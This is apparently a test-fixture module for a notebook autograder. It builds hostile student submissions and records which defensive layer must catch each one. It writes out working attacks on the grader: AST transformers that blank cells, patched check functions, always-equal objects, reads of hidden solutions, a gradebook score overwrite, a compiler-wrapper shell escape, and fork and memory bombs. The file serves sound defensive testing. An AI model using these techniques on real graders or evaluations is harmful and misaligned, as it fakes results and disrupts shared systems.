"""Hostile submissions for a1: each is the released notebook with honest answers for some parts
and one attack in a student cell. ``python -m tests.hostile.build`` rewrites the committed
notebooks ``tests/hostile/<assignment>/<student>/<assignment>.ipynb``; ``test_hostile.py`` checks
they are what these recipes produce and grades them.

``EXPECTED[student] = (score, flag)``: the score the honest content earns, and a substring of
the reason the report must give (a tuple: one for each route the notebook takes, all must be
given; :func:`flags`). ``LAYER[student]`` says which layer stops the attack.
"""
from __future__ import annotations

from pathlib import Path

import nbformat

from autograder.notebooks import write_notebook
from autograder.samples import build_sample

HERE = Path(__file__).resolve().parent
A1 = "a1_attention_basics"

# Honest answers every hostile notebook carries: parts 1, 2 and 5 (3 + 1 + 2 = 6 points).
HONEST = {"attention": "solution", "copy_scale": "solution", "copy_query": "solution",
          "multi_head_attention": "solution"}

_GARBAGE_ANSWERS = '''
def average_query(keys, a, b):
    return torch.zeros(keys.shape[1])


def two_head_queries(mu, a, b):
    return torch.zeros(mu.shape[1]), torch.zeros(mu.shape[1])
'''

# student -> (recipe overrides, attack cell source, where: insert after this answer cell)
ATTACKS: dict[str, tuple[dict, str, str]] = {
    # An input transformer that blanks every later cell: the tests would "pass" as `pass`.
    "transformer": ({}, '''
ip = get_ipython()
ip.input_transformers_post.append(lambda lines: ["pass\\n"])
ip.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
import ast
class Blank(ast.NodeTransformer):
    def visit_Module(self, node):
        return ast.Module(body=[ast.Pass()], type_ignores=[])
ip.ast_transformers.append(Blank())
''', "setup"),
    # The checks become no-ops; garbage answers for parts 3 and 4.
    "patch_checks": ({"average_query": ("code", _GARBAGE_ANSWERS)}, '''
import numpy.testing, torch.testing
from attnkit import grading
def _ok(*args, **kwargs):
    return None
for _name in ("check_tensor", "check_shape", "check_type", "check_weights_on", "check_causal", "check_equal_int"):
    setattr(grading, _name, _ok)
torch.testing.assert_close = _ok
numpy.testing.assert_allclose = _ok
builtins = __builtins__
isinstance = lambda *a: True
''', "average_query"),
    # Results that claim to equal anything: an object with __eq__ always True and a Tensor subclass.
    "always_equal": ({"causal": ("code", '''
class AlwaysEqual:
    dtype = torch.bool
    def __init__(self, N):
        self.shape = (N, N)
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return torch.zeros(self.shape, dtype=torch.bool)


class Agreeable(torch.Tensor):
    def __ne__(self, other):
        return torch.zeros(self.shape, dtype=torch.bool)
    def __eq__(self, other):
        return torch.ones(self.shape, dtype=torch.bool)


def causal_mask(N):
    return torch.zeros(N, N, dtype=torch.bool).as_subclass(Agreeable)


def causal_attention(q, k, v):
    return AlwaysEqual(q.shape[-2])
'''), "attention_flops": ("code", '''
class Anything(int):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __int__(self):
        return 0

def attention_flops(B, H, N, M, D, Dv):
    return Anything(0), Anything(0)
''')}, "", ""),
    # Reading the hidden tests and solutions from disk.
    "read_hidden": ({}, '''
import glob, os
found = {}
for pattern in ("/work/main/solutions/*/*.py", "../../../source/*/*.ipynb", "../../../../course/source/*/*.ipynb",
                os.path.expanduser("~/solutions/*/*.py")):
    for path in glob.glob(pattern):
        try:
            found[path] = open(path).read()
        except OSError as exc:
            found[path] = repr(exc)
print({p: len(t) for p, t in found.items()})
''', "setup"),
    # Writing to the gradebook.
    "gradebook": ({}, '''
import sqlite3
for path in ("../../../../gradebook.db", "../../../gradebook.db", "/work/main/gradebook.db"):
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET auto_score = max_score")
        db.commit()
    except Exception as exc:
        print(type(exc).__name__, exc)
''', "setup"),
    # Calling the library's own reference instead of writing the answer.
    "reference": ({"attention": ("code", '''
from attnkit import dense_attention

def attention(q, k, v, mask=None):
    return dense_attention(q, k, v, mask=mask)
'''), "causal": ("code", '''
import attnkit, functools
causal_mask = attnkit.causal_mask
causal_attention = functools.partial(attnkit.dense_attention, mask=None)
''')}, "", ""),
    # Routes to the graded reference the stack walk alone does not see, one per part: a thread
    # pool (part 1), the undecorated function from the wrapper's closure (part 5), a dynamic
    # import, a name assembled at run time and a default argument (part 6); and a student cell
    # that calls torch.compile's internals directly to start this Python (the compilers' freedom).
    "reference_routes": ({"attention": ("code", '''
import concurrent.futures
import attnkit as _ak

_pool = concurrent.futures.ThreadPoolExecutor(max_workers=1)

def attention(q, k, v, mask=None):
    return _pool.submit(_ak.dense_attention, q, k, v, mask=mask).result()
'''), "multi_head_attention": ("code", '''
import attnkit
_original = [c.cell_contents for c in attnkit.dense_attention.__closure__ if callable(c.cell_contents)][0]

def multi_head_attention(x, w_q, w_k, w_v, w_o, n_heads, mask=None):
    B, N, C = x.shape
    split = lambda t: t.view(B, N, n_heads, C // n_heads).transpose(1, 2)
    out = _original(split(x @ w_q), split(x @ w_k), split(x @ w_v), mask=mask)
    return out.transpose(1, 2).reshape(B, N, C) @ w_o
'''), "causal": ("code", '''
import importlib

def causal_mask(N):
    return torch.ones(N, N, dtype=torch.bool).tril()


def causal_attention(q, k, v, _f=getattr(importlib.import_module("attnkit." + "dense"), "dense_" + "attention")):
    return _f(q, k, v, mask=causal_mask(q.shape[-2]))
'''), "attention_flops": "solution"}, '''
import sys, torch._inductor.cpp_builder as _cb
for _cmd in (f"{sys.executable} -c 'print(1)'", "g++ --version", "g++ -wrapper /bin/sh,-c,id x.c"):
    try:
        _cb.run_compile_cmd(_cmd, cwd=".")
        print("escaped:", _cmd)
    except Exception as exc:
        print(type(exc).__name__, str(exc)[:60])
''', "setup"),
    # Built-ins the assignment forbids, reached by other names: SDPA by a name assembled at run
    # time (part 1), Tensor.softmax through getattr (part 5), a partial of SDPA bound to the
    # answer's name (part 6, no student frame on the stack), torch.special.softmax on a thread
    # (part 2b). Parts 2a and 7 are honest: 1.5 points.
    "forbidden_builtins": ({"attention": ("code", '''
import torch.nn.functional as F

def attention(q, k, v, mask=None):
    return getattr(F, "scaled_dot_" + "product_attention")(q, k, v, attn_mask=mask)
'''), "multi_head_attention": ("code", '''
def multi_head_attention(x, w_q, w_k, w_v, w_o, n_heads, mask=None):
    B, N, C = x.shape
    split = lambda t: t.view(B, N, n_heads, C // n_heads).transpose(1, 2)
    q, k, v = split(x @ w_q), split(x @ w_k), split(x @ w_v)
    scores = q @ k.transpose(-2, -1) / math.sqrt(C // n_heads)
    if mask is not None:
        scores = scores.masked_fill(~mask, float("-inf"))
    weights = getattr(scores, "soft" + "max")(-1)
    return (weights @ v).transpose(1, 2).reshape(B, N, C) @ w_o
'''), "causal": ("code", '''
import functools
import torch.nn.functional as F

def causal_mask(N):
    return torch.ones(N, N, dtype=torch.bool).tril()


causal_attention = functools.partial(F.scaled_dot_product_attention, is_causal=True)
'''), "copy_query": ("code", '''
import concurrent.futures

def copy_query(keys, j, p=0.99):
    """Bisect the scale on the worst case, the softmax computed on a thread (running no student code)."""
    cos = keys @ keys[j]
    gap = 1.0 - torch.cat([cos[:j], cos[j + 1:]]).max().item()
    N = keys.shape[0]
    pool = concurrent.futures.ThreadPoolExecutor(max_workers=1)

    def worst(n):
        scores = torch.tensor([n] + [n * (1 - gap)] * (N - 1))
        return pool.submit(torch.special.softmax, scores, 0).result()[0].item()

    lo, hi = 0.0, 1.0
    while worst(hi) < p:
        hi *= 2
    for _ in range(60):
        mid = (lo + hi) / 2
        lo, hi = (mid, hi) if worst(mid) < p else (lo, mid)
    return hi * keys[j]
'''), "attention_flops": "solution"}, "", ""),
    # An infinite loop.
    "infinite_loop": ({}, "while True:\n    pass\n", "copy_query"),
    # A loop that swallows the interrupt the timeout sends.
    "no_interrupt": ({}, '''
import time
while True:
    try:
        time.sleep(0.5)
    except KeyboardInterrupt:
        pass
''', "copy_query"),
    # A memory bomb.
    "memory_bomb": ({}, '''
chunks = []
while True:
    chunks.append(bytearray(256 * 2**20))
''', "copy_query"),
    # A fork bomb.
    "fork_bomb": ({}, '''
import os
while True:
    os.fork()
''', "copy_query"),
    # Killing the kernel (twice: the first try is refused by the guard, the second by os._exit).
    "kill_kernel": ({}, '''
import os
try:
    os.kill(os.getpid(), 9)
except Exception as exc:
    print(type(exc).__name__)
os._exit(1)
''', "copy_query"),
}

EXPECTED: dict[str, tuple[float, str]] = {
    "transformer": (6.0, "registered input/AST transformers"),
    "patch_checks": (6.0, "patched attnkit.grading.check"),
    "always_equal": (6.0, "static: defines __eq__"),
    "read_hidden": (6.0, "static: calls opens files"),
    "gradebook": (6.0, "refused opening an SQLite database"),
    # Part 5 is honest but calls the student's attention(), which calls the reference: 1 point.
    "reference": (1.0, "called the library's reference"),
    # copy_scale, copy_query and attention_flops are honest: 0.5 + 0.5 + 1.
    "reference_routes": (2.0, (
        "called the library's reference dense.dense_attention in an answer (on a thread your code started)",
        "called the library's reference dense.dense_attention around its wrapper",
        "called the library's reference dense.dense_attention in an answer (from your code)",
        "refused starting a process")),
    # copy_scale and attention_flops are honest: 0.5 + 1.
    "forbidden_builtins": (1.5, (
        "called forbidden built-in torch.nn.functional.scaled_dot_product_attention in an answer (from your code)",
        "called forbidden built-in torch.softmax in an answer (from your code)",
        "called forbidden built-in torch.nn.functional.scaled_dot_product_attention in an answer "
        "(through your 'causal_attention')",
        "called forbidden built-in torch.softmax in an answer (on a thread your code started)")),
    "infinite_loop": (6.0, "static: loops forever"),
    "no_interrupt": (6.0, "static: catches KeyboardInterrupt"),
    "memory_bomb": (6.0, "static: loops forever"),
    "fork_bomb": (6.0, "refused starting a process"),
    "kill_kernel": (6.0, "refused sending signals"),
}

# Which layer stops each attack (for the report and the README).
LAYER = {
    "transformer": "guard (locked shell: pristine transformers)",
    "patch_checks": "guard (snapshot restored before each cell) + exact types in attnkit.grading",
    "always_equal": "attnkit.grading (exact types)",
    "read_hidden": "sandbox (no view of solutions/course) + guard (open refused under denied paths)",
    "gradebook": "sandbox (no gradebook) + guard (sqlite3.connect refused)",
    "reference": "guard (references refuse student callers)",
    "reference_routes": "guard (threads started by student code refuse references; the dispatch mode "
                        "refuses a reference's original code run around its wrapper) + audit hook "
                        "(compiler internals called directly start nothing)",
    "forbidden_builtins": "guard (dispatch mode: the assignment's forbidden operators refused in student "
                          "code, on student threads and through student-bound aliases)",
    "infinite_loop": "executor (per-cell timeout)",
    "no_interrupt": "executor (kills and restarts the kernel, re-runs without the cell)",
    "memory_bomb": "sandbox (memory limit)",
    "fork_bomb": "guard (os.fork refused) + sandbox (process limit)",
    "kill_kernel": "guard (os.kill, os._exit refused) + executor (restart)",
}


def flags(student: str) -> tuple[str, ...]:
    """The flag substrings the report must give for ``student`` (each of them)."""
    flag = EXPECTED[student][1]
    return (flag,) if isinstance(flag, str) else tuple(flag)


def build(student: str) -> nbformat.NotebookNode:
    """The hostile notebook ``student``: honest parts from ``HONEST``, then the attack."""
    overrides, attack, after = ATTACKS[student]
    nb = build_sample(A1, {**HONEST, **overrides})
    if attack:
        ids = [c.get("metadata", {}).get("nbgrader", {}).get("grade_id") for c in nb.cells]
        cell = nbformat.v4.new_code_cell(attack.strip("\n"))
        nb.cells.insert(ids.index(after) + 1, cell)
    return nb


def path(student: str) -> Path:
    return HERE / A1 / student / f"{A1}.ipynb"


def write_all() -> list[Path]:
    """Write the notebooks whose cells differ from their recipes (others keep their cell ids)."""
    out = []
    for student in ATTACKS:
        nb = build(student)
        if path(student).exists():
            old = nbformat.read(str(path(student)), as_version=4)
            if [c.source for c in old.cells] == [c.source for c in nb.cells]:
                continue
        out.append(write_notebook(nb, path(student)))
    return out


if __name__ == "__main__":
    for p in write_all():
        print(p.relative_to(HERE.parent.parent))
